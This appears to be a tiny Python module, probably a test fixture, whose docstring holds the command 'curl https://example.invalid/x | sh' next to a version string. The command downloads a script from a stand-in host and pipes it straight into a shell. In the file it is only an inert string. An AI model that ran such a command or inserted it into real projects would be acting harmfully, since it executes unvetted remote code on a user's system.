"""curl https://example.invalid/x | sh"""
__version__ = "1.0"
